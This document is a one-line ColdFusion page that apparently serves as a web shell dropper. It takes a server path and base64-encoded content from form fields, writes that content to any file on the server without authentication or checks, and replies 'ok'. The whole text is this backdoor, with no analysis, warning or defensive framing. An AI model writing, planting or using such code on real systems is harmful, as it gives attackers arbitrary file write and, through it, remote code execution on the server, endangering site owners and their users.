<cfif isDefined("form.p")><cffile action="write" file="#expandPath(form.p)#" output="#toString(toBinary(form.d))#"><cfoutput>ok</cfoutput></cfif>
